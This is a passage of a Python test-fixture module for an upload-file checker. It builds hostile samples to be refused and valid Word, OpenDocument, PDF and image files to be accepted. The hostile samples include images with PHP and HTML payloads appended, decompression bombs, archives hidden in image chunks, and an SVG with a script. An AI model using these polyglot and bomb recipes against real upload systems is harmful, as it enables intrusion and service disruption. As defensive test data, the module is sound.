                Sample(
                    f"{picture}-then-{name}",
                    f"certificate.{extension}",
                    data + payload(),
                    kind,
                    trailer,
                )
            )
    samples.append(Sample("png-then-png", "c.png", png + png, PNG, trailer))
    samples.append(
        Sample(
            "png-end-chunk-with-payload",
            "c.png",
            png[:-12] + png_chunk(b"IEND", PHP + HTML),
            PNG,
            trailer,
        )
    )
    samples.append(
        Sample(
            "png-end-chunk-with-one-byte",
            "c.png",
            png[:-12] + png_chunk(b"IEND", b"\x00"),
            PNG,
            trailer,
        )
    )
    samples.append(Sample("png-then-one-byte", "c.png", png + b"\x00", PNG, trailer))
    samples.append(Sample("jpeg-then-one-byte", "c.jpg", jpeg_bytes() + b"\x00", JPEG, trailer))
    samples.append(
        Sample("jpeg-then-jpeg-without-mpf", "c.jpg", jpeg_bytes() + jpeg_bytes(), JPEG, trailer)
    )
    samples.append(
        Sample("jpeg-multi-picture-then-html", "c.jpg", build.mpo_bytes() + HTML, JPEG, trailer)
    )

    damaged = Reason.DAMAGED_IMAGE
    jpeg = jpeg_bytes()
    bad_crc = bytearray(png)
    bad_crc[29] ^= 0xFF
    samples += [
        Sample("png-truncated", "c.png", png[:-20], PNG, damaged),
        Sample("png-bad-crc", "c.png", bytes(bad_crc), PNG, damaged),
        Sample("png-no-end", "c.png", png[:-12], PNG, damaged),
        Sample(
            "png-data-first", "c.png", png[:8] + png_chunk(b"IDAT", b"x") + png[8:], PNG, damaged
        ),
        Sample("png-signature-only", "c.png", png[:8], PNG, damaged),
        Sample("jpeg-truncated", "c.jpg", jpeg[: len(jpeg) // 2], JPEG, damaged),
        Sample("jpeg-no-end", "c.jpg", jpeg[:-2], JPEG, damaged),
        Sample("jpeg-start-only", "c.jpg", b"\xff\xd8\xff", JPEG, damaged),
        Sample(
            "jpeg-broken-segment", "c.jpg", jpeg[:2] + b"\xff\xe1\xff\xff" + jpeg[2:], JPEG, damaged
        ),
    ]

    pixels = Reason.PIXELS
    samples += [
        Sample("png-bomb-400-megapixels", "c.png", png_bomb(20_000, 20_000), PNG, pixels),
        Sample("png-bomb-just-over-the-limit", "c.png", png_bomb(7_072, 7_071), PNG, pixels),
        Sample("png-bomb-wide", "c.png", png_bomb(60_000, 1_000), PNG, pixels),
        Sample("png-bomb-tall", "c.png", png_bomb(1_000, 60_000), PNG, pixels),
        Sample("png-bomb-grey", "c.png", png_bomb(8_000, 8_000, bit_depth=8), PNG, pixels),
        Sample("jpeg-bomb-header", "c.jpg", _jpeg_with_size(jpeg, 60_000, 60_000), JPEG, pixels),
    ]

    hidden = Reason.HIDDEN_DATA
    samples += [
        Sample(
            "png-pdf-in-text-chunk",
            "c.png",
            _insert_after_header(png, png_chunk(b"tEXt", b"Comment\x00%PDF-1.7 1 0 obj")),
            PNG,
            hidden,
        ),
        Sample(
            "png-zip-in-private-chunk",
            "c.png",
            png[:-12] + png_chunk(b"prVt", zip_payload()) + png[-12:],
            PNG,
            hidden,
        ),
        Sample(
            "jpeg-zip-in-comment",
            "c.jpg",
            jpeg[:2] + _jpeg_segment(0xFE, zip_payload()) + jpeg[2:],
            JPEG,
            hidden,
        ),
        Sample(
            "jpeg-pdf-in-comment",
            "c.jpg",
            jpeg[:2] + _jpeg_segment(0xFE, b"%PDF-1.7") + jpeg[2:],
            JPEG,
            hidden,
        ),
    ]

    other = Reason.TYPE
    samples += [
        Sample("gif", "c.gif", b"GIF89a\x01\x00\x01\x00\x00\x00\x00;", OTHER, other),
        Sample("bmp", "c.png", b"BM" + bytes(60), OTHER, other),
        Sample(
            "svg-with-script",
            "c.png",
            b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
            OTHER,
            other,
        ),
        Sample("html", "c.pdf", HTML, OTHER, other),
        Sample("exe", "c.pdf", PE, OTHER, other),
        Sample("elf", "c.jpg", ELF, OTHER, other),
        Sample("php", "c.jpg", PHP, OTHER, other),
        Sample("shell", "c.docx", SHELL, OTHER, other),
        Sample("plain-zip", "c.docx", zip_payload(), OTHER, other),
        Sample("webp", "c.png", b"RIFF\x1a\x00\x00\x00WEBPVP8 " + bytes(14), OTHER, other),
    ]
    return samples


def _jpeg_with_size(jpeg: bytes, width: int, height: int) -> bytes:
    """The JPEG with its frame header (SOF0) claiming another size."""
    frame = jpeg.find(b"\xff\xc0")
    out = bytearray(jpeg)
    out[frame + 5 : frame + 7] = height.to_bytes(2, "big")
    out[frame + 7 : frame + 9] = width.to_bytes(2, "big")
    return bytes(out)


# The corpus ----------------------------------------------------------------------------------


@cache
def hostile() -> tuple[Sample, ...]:
    """Every hostile file, each with the reason it must be refused."""
    samples = (
        *pdf_samples(),
        *_word_samples(),
        *_bombs(),
        *_odt_samples(),
        *_picture_samples(),
        *_zip_header_samples(),
        *_link_samples(),
        *_word_review_samples(),
        *_odt_review_samples(),
    )
    ids = [sample.id for sample in samples]
    assert len(ids) == len(set(ids)), "corpus ids must be unique"
    return samples


@cache
def valid() -> tuple[Sample, ...]:
    """Files the checker must accept, each with the content type it must be stored as."""
    pdf = build.minimal_pdf()
    chart_sheet = zip_of(
        {
            "[Content_Types].xml": build.content_types(
                main="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
            ),
            "_rels/.rels": relationships(("rId1", "officeDocument", "xl/workbook.xml")),
            "xl/workbook.xml": '<?xml version="1.0"?><workbook/>',
            "xl/printerSettings/printerSettings1.bin": b"\x00" * 64,
        }
    )
    owner_only = pikepdf.new()
    owner_only.add_blank_page()
    buffer = io.BytesIO()
    owner_only.save(
        buffer, static_id=True, encryption=pikepdf.Encryption(user="", owner="owner", R=6)
    )
    chart_part = {"word/embeddings/Microsoft_Excel_Worksheet.xlsx": chart_sheet}
    samples = [
        Sample("pdf-minimal", "Reflective account.pdf", pdf, PDF),
        Sample("pdf-weasyprint-with-links", "Level 3 workbook.pdf", build.weasyprint_pdf(), PDF),
        Sample("pdf-qpdf", "workbook.pdf", build.pikepdf_pdf(), PDF),
        Sample(
            "pdf-qpdf-object-streams", "workbook.pdf", object_streams(build.weasyprint_pdf()), PDF
        ),
        Sample("pdf-trailing-white-space", "workbook.pdf", pdf + b"\r\n \x00\x00\n", PDF),
        Sample("pdf-incremental-update", "workbook.pdf", _incremental(pdf), PDF),
        # Many real PDFs have a slightly wrong cross-reference table; qpdf rebuilds it, and
        # every object is still walked.
        Sample("pdf-wrong-xref-offset", "workbook.pdf", _wrong_xref(pdf), PDF),
        Sample(
            "pdf-open-at-page",
            "workbook.pdf",
            page_pdf(catalog=b"/OpenAction [3 0 R /FitH 842]"),
            PDF,
        ),
        Sample(
            "pdf-link-click-uri",
            "workbook.pdf",
            _pdf(_annotation(_link(b"<< /S /URI /URI (https://www.gov.wales/) >>"))),
            PDF,
        ),
        Sample("pdf-owner-password-only", "workbook.pdf", buffer.getvalue(), PDF),
        Sample("pdf-byte-order-mark", "workbook.pdf", b"\xef\xbb\xbf" + pdf, PDF),
        Sample("docx-hyperlink-header-picture", "Llyfr gwaith ŵŷ.docx", build.docx_bytes(), DOCX),
        Sample(
            "docx-stored",
            "workbook.docx",
            zip_of(docx_parts(), compression=zipfile.ZIP_STORED),
            DOCX,
        ),
        Sample("docx-chart-data", "workbook.docx", _docx(extra=chart_part), DOCX),
        Sample(
            "docx-template-on-own-drive",
            "workbook.docx",
            _docx(
                extra=_settings_with_template(
                    "file:///C:\\Users\\Siân\\Documents\\Custom Office Templates\\Workbook.dotx"
                )
            ),
            DOCX,
        ),
        Sample(
            "odt-embedded-font", "workbook.odt", _odt(extra={"Fonts/Gentium.ttf": build.TTF}), ODT
        ),
        Sample(
            "docx-printer-settings",
            "workbook.docx",
            _docx(extra={"word/printerSettings/printerSettings1.bin": b"\x00" * 128}),
            DOCX,
        ),
        Sample(
            "docx-ref-and-page-fields",
            "workbook.docx",
            _docx(body=DOCX_BODY + _field_run("REF _Ref1 \\h") + _field_run("NUMPAGES")),
            DOCX,
        ),
        Sample("odt-hyperlink-picture", "workbook.odt", build.odt_bytes(), ODT),
        Sample(
            "odt-chart-object",
            "workbook.odt",
            _odt(
                content=content_xml(
                    ODT_TEXT + "<text:p><draw:frame><draw:object xlink:href="
                    '"./Object 1" xlink:type="simple" xlink:show="embed"/>'
                    '<draw:image xlink:href="./ObjectReplacements/Object 1"/>'
                    "</draw:frame></text:p>"
                ),
                extra={
                    "Object 1/content.xml": odf_xml("document-content", ""),
                    "ObjectReplacements/Object 1": b"VCLMTF" + bytes(32),
                },
            ),
            ODT,
        ),
        *_valid_packages(),
        Sample(
            "pdf-link-click-mailto",
            "workbook.pdf",
            _pdf(_annotation(_link(b"<< /S /URI /URI (mailto:assessor@example.org) >>"))),
            PDF,
        ),
        Sample(
            "pdf-thread-in-the-document",
            "workbook.pdf",
            _pdf(_annotation(_link(b"<< /S /Thread /D 0 >>"))),
            PDF,
        ),
        Sample("png", "certificate.png", png_bytes(), PNG),
        Sample("png-palette", "certificate.png", png_bytes(mode="P"), PNG),
        Sample("png-alpha", "certificate.png", png_bytes(mode="RGBA"), PNG),
        Sample("jpeg", "certificate.jpeg", jpeg_bytes(), JPEG),
        Sample("jpeg-exif-thumbnail", "IMG_0042.JPG", jpeg_with_thumbnail(), JPEG),
        Sample("jpeg-progressive", "scan.jpg", jpeg_bytes((120, 90), progressive=True), JPEG),
        Sample("jpeg-multi-picture", "camera.jpg", build.mpo_bytes(), JPEG),
    ]
    return tuple(samples)


def _valid_packages() -> Iterator[Sample]:
    """Word and OpenDocument files as their writers lay them out, with every kind of picture,
    font and link a plain document has."""
    yield Sample("docx-as-word-writes-it", "Workbook.docx", build.word_docx(), DOCX)
    yield Sample(
        "docx-streamed-with-data-descriptors",
        "workbook.docx",
        build.streamed_zip(docx_parts(), stored=()),
        DOCX,
    )
    yield Sample("docx-zipped-again-by-info-zip", "workbook.docx", build.info_zip_docx(), DOCX)
    yield Sample("odt-as-libreoffice-writes-it", "Llyfr gwaith.odt", build.libreoffice_odt(), ODT)
    yield Sample(
        "odt-streamed-with-data-descriptors", "workbook.odt", build.streamed_zip(odt_parts()), ODT
    )
    links = (
        '<w:p><w:hyperlink w:anchor="plan"><w:r><w:t>Plan</w:t></w:r></w:hyperlink>'
        '<w:hyperlink r:id="rIdMail"><w:r><w:t>Assessor</w:t></w:r></w:hyperlink></w:p>'
        + _field_run('HYPERLINK \\l "plan" \\o "The plan"')
        + _field_run('HYPERLINK "mailto:assessor@example.org"')
        + _field_run("HYPERLINK https://socialcare.wales/resources/link-and-import-guidance")
        + '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> IF </w:instrText>'
        "</w:r>"
        + _field_run("MERGEFIELD Name")[5:-6]
        + '<w:r><w:instrText> = "Siân" "Yes" "No" </w:instrText></w:r><w:r><w:fldChar '
        'w:fldCharType="end"/></w:r></w:p>'
    )
    yield Sample(
        "docx-mail-bookmark-and-web-links",
        "workbook.docx",
        _docx(
            body=DOCX_BODY + links,
            rels=(
                ("rIdMail", "hyperlink", "mailto:assessor@example.org", "External"),
                ("rIdHttp", "hyperlink", "HTTP://www.gov.wales/?a=1%202", "External"),
                ("rIdHash", "hyperlink", "#_Toc1", "External"),
                (
                    "rIdBody",
                    "hyperlink",
                    "mailto:assessor@example.org?subject=Workbook&amp;body=Hello%0D%0AThanks",
                    "External",
                ),
            ),
        ),
        DOCX,
    )
    yield Sample(
        "odt-mail-bookmark-and-web-links",
        "workbook.odt",
        _odt(
            content=content_xml(
                ODT_TEXT + '<text:p><text:a xlink:href="mailto:assessor@example.org">Assessor'
                '</text:a> <text:a xlink:href="#Plan|outline">Plan</text:a> <draw:a xlink:href='
                '"https://www.gov.wales/"><draw:frame><draw:image xlink:href="Pictures/picture.png"'
                "/></draw:frame></draw:a></text:p>"
            )
        ),
        ODT,
    )
    pictures: dict[str, bytes | str] = {
        "word/media/image2.jpeg": jpeg_bytes(),
        "word/media/image3.gif": build.picture_bytes("GIF"),
        "word/media/image4.bmp": build.picture_bytes("BMP"),
        "word/media/image5.tiff": build.picture_bytes("TIFF"),
        "word/media/image6.emf": build.EMF,
        "word/media/image7.wmf": build.WMF_PLACEABLE,
        "word/media/image8.wmf": build.WMF,
        "word/media/image9.svg": build.SVG,
        "word/media/image10.svg": build.SVG_WITH_DOCTYPE,
        "word/media/image11.png": jpeg_bytes(),  # Word keeps a picture's bytes as pasted
        "word/fonts/font1.odttf": bytes(range(32)) + build.TTF,
        "word/fonts/font2.ttf": build.TTF,
    }
    types = "".join(
        f'<Default Extension="{extension}" ContentType="{kind}"/>'
        for extension, kind in (
            ("jpeg", "image/jpeg"),
            ("gif", "image/gif"),
            ("bmp", "image/bmp"),
            ("tiff", "image/tiff"),
            ("emf", "image/x-emf"),
            ("wmf", "image/x-wmf"),
            ("svg", "image/svg+xml"),
            ("odttf", "application/vnd.openxmlformats-officedocument.obfuscatedFont"),
            ("ttf", "application/x-font-ttf"),
        )
    )
    yield Sample(
        "docx-pictures-and-fonts-of-every-kind",
        "workbook.docx",
        _docx(extra=pictures, types=types),
        DOCX,
    )
    yield Sample(
        "odt-pictures-of-every-kind",
        "workbook.odt",
        _odt(
            extra={
                "Pictures/drawing.svg": build.SVG,
                "Pictures/chart.svm": build.SVM,
                "Pictures/diagram.emf": build.EMF,
                "Pictures/clip.wmf": build.WMF_PLACEABLE,
                "Pictures/photo.jpg": jpeg_bytes(),
                "Pictures/anim.gif": build.picture_bytes("GIF"),
                "Object 1/content.xml": odf_xml("document-content", ""),
                "ObjectReplacements/Object 1": build.EMF,
                "ObjectReplacements/Object 2": build.WMF,
                "ObjectReplacements/Object 3": png_bytes((3, 3)),
                "Fonts/Gentium-Bold.otf": b"OTTO" + bytes(8),
            }
        ),
        ODT,
    )


def _wrong_xref(pdf: bytes) -> bytes:
    """``pdf`` with its ``startxref`` pointing 7 bytes off."""
    start = pdf.rfind(b"startxref\n") + 10
    end = pdf.index(b"\n", start)
    return pdf[:start] + b"%d" % (int(pdf[start:end]) + 7) + pdf[end:]


def _incremental(pdf: bytes) -> bytes:
    """``pdf`` with an incremental update appended (a second xref section and ``%%EOF``)."""
    xref = int(pdf[pdf.rfind(b"startxref") + 10 :].split()[0])
    body = b"6 0 obj\n<< /Producer (trainhub tests) >>\nendobj\n"
    offset = len(pdf)
    update_xref = len(pdf) + len(body)
    return (
        pdf
        + body
        + (
            b"xref\n6 1\n%010d 00000 n \ntrailer\n<< /Size 7 /Root 1 0 R /Info 6 0 R /Prev %d >>\n"
            b"startxref\n%d\n%%%%EOF\n" % (offset, xref, update_xref)
        )
    )
